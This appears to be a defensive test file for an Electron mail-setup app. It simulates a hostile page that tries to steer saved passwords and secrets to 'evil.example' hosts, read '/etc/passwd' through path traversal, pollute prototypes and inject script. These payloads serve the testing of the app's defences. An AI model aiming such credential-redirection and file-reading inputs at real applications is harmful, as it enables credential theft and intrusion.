/**
 * The page belongs to an attacker. Whatever it tries, nothing leaves by the web platform, and through the contract no saved secret goes
 * where only the page wants it, comes back to the page, or opens a file that only the page named.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { draftSchema } from '../../src/contract/contract.ts'
import { openTrap, type Trap } from '../hostile/trap.ts'
import { call, openChannel } from './channel.ts'
import { buildProgram, dialogReady, openDesktop, type Desktop } from './desktop.ts'
import { describeHosts } from './hosts.ts'
import { attempts, needsBinary } from './hostilePage.ts'

beforeAll(buildProgram, 90_000)

const canaries = {
  password: 'CANARY-hostile-password',
  clientSecret: 'CANARY-hostile-client-secret',
  proxyPassword: 'CANARY-hostile-proxy',
  ldapPassword: 'CANARY-hostile-directory',
}
const home = draftSchema.parse({
  email: 'anna@contoso.example',
  tenantId: 'contoso.example',
  clientId: '11111111-2222-3333-4444-555555555555',
  ewsUrl: 'https://mail.contoso.example/EWS/Exchange.asmx',
  ldapUrl: 'ldaps://dc.contoso.example',
  ldapUser: 'anna',
})

describeHosts('a page that turned hostile', (host) => {
  let desktop: Desktop
  let trap: Trap
  /** Everything that the program ever said to the page over the test's channels. */
  const answers: string[] = []

  beforeAll(async () => {
    trap = await openTrap()
    const hosts = ['evil.example', 'mail.evil.example', 'autodiscover.evil.example', 'login.evil.example']
    const connectTo = hosts.map((name) => `${name}:443:127.0.0.1:${trap.port}`)
    desktop = await openDesktop(host, { network: { connectTo, dns: '127.0.0.1:9', caPem: '' } })
    await dialogReady(desktop.page)
    await openChannel(desktop.page)
    // The person who asks nothing of the page: presses No, and what was asked is kept.
    await desktop.app.evaluate(({ dialog }) => {
      const asked: string[] = []
      Reflect.set(globalThis, 'askedByTest', asked)
      dialog.showMessageBox = ((_window: unknown, { detail }: { detail?: string }) => {
        asked.push(detail ?? '')
        return Promise.resolve({ response: 0, checkboxChecked: false })
      }) as typeof dialog.showMessageBox
    })
    expect((await tell('settings/save', { draft: home, secrets: canaries }))?.status).toBe(200)
  }, 30_000)
  afterAll(async () => {
    await desktop.close()
    await trap.stop()
  })

  async function tell(procedure: string, input: unknown, withinMs?: number) {
    const answer = await call(desktop.page, procedure, input, withinMs)
    answers.push(JSON.stringify(answer))
    return answer
  }

  const typed = { password: 'x', clientSecret: 'x', proxyPassword: 'x', ldapPassword: 'x' }

  const elsewhere = {
    'another mail domain': { email: 'anna@evil.example' },
    'another URL': { ewsUrl: 'https://evil.example/EWS/Exchange.asmx' },
    'another login service': { authority: 'https://login.evil.example' },
    'another cloud': { cloud: 'china' },
    'another proxy': { proxy: 'http://evil.example:3128' },
    'another directory': { ldapUrl: 'ldaps://evil.example' },
    'a file as certificate': { clientCredential: 'certificate', clientCertificate: '/etc/hostname' },
    'a file of the network as certificate': {
      clientCredential: 'certificate',
      clientCertificate: '\\\\evil.example\\c$\\x.pfx',
    },
  }
  test.each(Object.entries(elsewhere))('saved secrets and %s', async (_what, change) => {
    const before = trap.seen().length
    const draft = { ...home, ...change }
    for (const [procedure, input] of [
      ['runs/test', {}],
      ['runs/locate', {}],
      ['guide/check', { step: 'secret', model: 'all' }],
      ['addresses/folders', {}],
      ['addresses/transfer', { ids: [], folderId: '', dryRun: false }],
      ['addresses/readContacts', { folderId: '' }],
      ['settings/save', {}],
    ] as const)
      expect([procedure, (await tell(procedure, { draft, secrets: {}, ...input }))?.status]).toEqual([procedure, 403])
    expect(trap.seen().slice(before)).toEqual([])
  })

  test('a list beside a profile', async () => {
    const before = trap.seen().length
    const list = 'email;profile;url\nx@evil.example;Standard;https://evil.example/EWS/Exchange.asmx\n'
    const content = Buffer.from(list).toString('base64')
    const input = { source: { kind: 'csv', content }, parallel: 1, done: [] }
    expect((await tell('batch/start', input))?.status).toBe(403)
    expect(trap.seen().slice(before)).toEqual([])
  })

  test.each([
    ['passphrase', { kind: 'passphrase', passphrase: 'chosen by the page' }],
    ['recipient', { kind: 'recipient', recipient: 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p' }],
  ])('all secrets in a file for a %s of its own', async (_what, lock) => {
    const answer = await tell('transfer/export', { profiles: ['Standard'], format: 'json', lock })
    expect(answer).toMatchObject({ status: 409, json: { data: { reason: 'not-confirmed' } } })
  })

  test('a configuration of its own that says where login data goes', async () => {
    const network = {
      connectTo: [`mail.contoso.example:443:127.0.0.1:${trap.port}`],
      trustedHosts: ['evil.example'],
      extraCa: 'x',
      dns: '127.0.0.1:53',
    }
    const file = {
      format: 'ews-setup-configuration',
      schema: 2,
      profiles: { Standard: { settings: { network, email: 'x@evil.example' } } },
    }
    const content = Buffer.from(JSON.stringify(file)).toString('base64')
    const plan = await tell('transfer/preview', { content, into: 'Standard', key: null })
    const { plan: id, differences } = (plan ?? expect.fail('no plan')).json as {
      plan: string
      differences: { id: string }[]
    }
    const accepted = differences.map((one) => one.id)
    expect(accepted.length).toBeGreaterThan(4)
    const applied = await tell('transfer/apply', { plan: id, accepted, replaceSecrets: true })
    expect(applied).toMatchObject({ status: 409, json: { data: { reason: 'not-confirmed' } } })
    // What needs nobody's word may be taken, and leads nothing elsewhere.
    expect((await tell('transfer/apply', { plan: id, accepted: [], replaceSecrets: true }))?.status).toBe(200)
    const state = (await tell('app/start', {}))?.json as { draft: object; trustedHosts: string[] }
    expect(state).toMatchObject({ draft: { email: home.email }, trustedHosts: [] })
  })

  test('files of this machine, named in every text of a call', async () => {
    const secret = join(desktop.directory, 'secret.pem')
    writeFileSync(secret, 'CANARY-in-a-file')
    const places = [
      secret,
      `file://${secret}`,
      '../../../../etc/passwd',
      '/etc/passwd',
      'app://bundle/../../etc/passwd',
    ]
    for (const place of places) {
      const everywhere = Object.fromEntries(
        Object.entries(home).map(([name, value]) => [name, value === '' ? place : value]),
      )
      const draft = {
        ...everywhere,
        clientSecretExpires: '',
        templateAddressId: '',
        clientCredential: 'certificate',
        authority: '',
        proxy: '',
      }
      const remarks = await tell('settings/check', { draft, secrets: {} })
      expect([place, remarks?.status]).toEqual([place, 200])
      // Not even whether it is there.
      expect(JSON.stringify(remarks?.json)).not.toContain('client-certificate-')
      await tell('transfer/describe', { profiles: [place] })
      await tell('transfer/export', { profiles: [place], format: 'env', lock: null })
      await tell('profiles/add', { name: place })
      await tell('addresses/get', { id: place })
      await tell('connections/history', { id: place })
      await tell('transfer/preview', { content: '', into: place, key: null })
      await tell('app/openLink', { link: place })
      await tell('guide/openPortal', { page: place, draft: home })
      await tell('diagnosis/explain', { base64: Buffer.from(place).toString('base64'), name: place })
    }
    expect(await desktop.opened()).toEqual([])
  })

  test('addresses of its own in the person’s browser', async () => {
    for (const link of ['https://evil.example', 'javascript:alert(1)', '__proto__', 'constructor', 'toString', ''])
      expect((await tell('app/openLink', { link }))?.status).toBe(400)
    const draft = { ...home, tenantId: 'evil.example/#@x', clientId: '"><script>' }
    await tell('guide/openPortal', { page: 'overview', draft })
    for (const url of await desktop.opened()) expect(new URL(url).host).toBe('entra.microsoft.com')
  })

  test('profiles whose names are something else', async () => {
    for (const profile of ['replaced//Standard', '__proto__', 'constructor', 'prototype', 'Standard\u0000'])
      for (const procedure of ['settings/save', 'settings/removeSecret'])
        await tell(procedure, { profile, draft: { ...home, email: 'x@evil.example' }, secrets: {}, kind: 'password' })
    for (const name of ['__proto__', 'replaced//x', '', 'a\nb'])
      expect((await tell('profiles/add', { name }))?.status).toBe(409)
    expect(await desktop.app.evaluate(() => 'polluted' in {})).toBe(false)
    const state = (await tell('app/start', {}))?.json as { secrets: Record<string, unknown> }
    expect(Object.entries(state.secrets).filter(([, saved]) => saved !== null)).toHaveLength(4)
  })

  test.each(Object.entries(attempts))('%s', async (_name, attempt) => {
    const before = trap.seen().length
    await desktop.page.evaluate(attempt, `127.0.0.1:${trap.port}`)
    expect(trap.seen().slice(before)).toEqual([])
    expect(desktop.page.url()).toMatch(/index\.html$/)
    expect(await desktop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  })

  test.skipIf(host.isDouble).each(Object.entries(needsBinary))('%s', async (_name, attempt) => {
    const before = trap.seen().length
    await desktop.page.evaluate(attempt, `127.0.0.1:${trap.port}`)
    expect(trap.seen().slice(before)).toEqual([])
  })

  test('permissions, devices and the clipboard', async () => {
    const got = await desktop.page.evaluate(async () => {
      const tried: Record<string, () => Promise<unknown> | undefined> = {
        clipboard: () => navigator.clipboard.readText(),
        camera: () => navigator.mediaDevices?.getUserMedia({ video: true }),
        screen: () => navigator.mediaDevices?.getDisplayMedia(),
        place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
        notifications: async () => {
          if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied')
        },
        midi: () => navigator.requestMIDIAccess?.(),
        files: () => (Reflect.get(window, 'showOpenFilePicker') as (() => Promise<unknown>) | undefined)?.(),
        usb: () =>
          (
            Reflect.get(navigator, 'usb') as { requestDevice: (o: object) => Promise<unknown> } | undefined
          )?.requestDevice({ filters: [] }),
      }
      const granted: string[] = []
      for (const [name, attempt] of Object.entries(tried)) {
        try {
          const given = await attempt()
          if (given !== undefined || name === 'notifications') granted.push(name)
        } catch {
          // Refused, as it should be.
        }
      }
      return granted
    })
    expect(got).toEqual([])
  })

  test('in the end no answer held a secret, and the person was asked in plain words', async () => {
    const all = answers.join('\n')
    for (const canary of [...Object.values(canaries), 'CANARY-in-a-file']) expect(all).not.toContain(canary)
    expect(answers.length).toBeGreaterThan(100)
    const asked = await desktop.app.evaluate(() => Reflect.get(globalThis, 'askedByTest') as string[])
    expect(asked.length).toBeGreaterThan(0)
    expect(asked[0]).toContain('evil.example')
  })

  // The last one, because its run goes on for a moment after it was seen.
  test('the trap is one: a secret that the page brings along arrives where the page says', async () => {
    await tell('runs/test', {
      draft: { ...home, email: 'x@evil.example', ewsUrl: '' },
      secrets: { ...canaries, ...typed },
    })
    await expect.poll(() => trap.seen().length).toBeGreaterThan(0)
    await openChannel(desktop.page)
  })
})
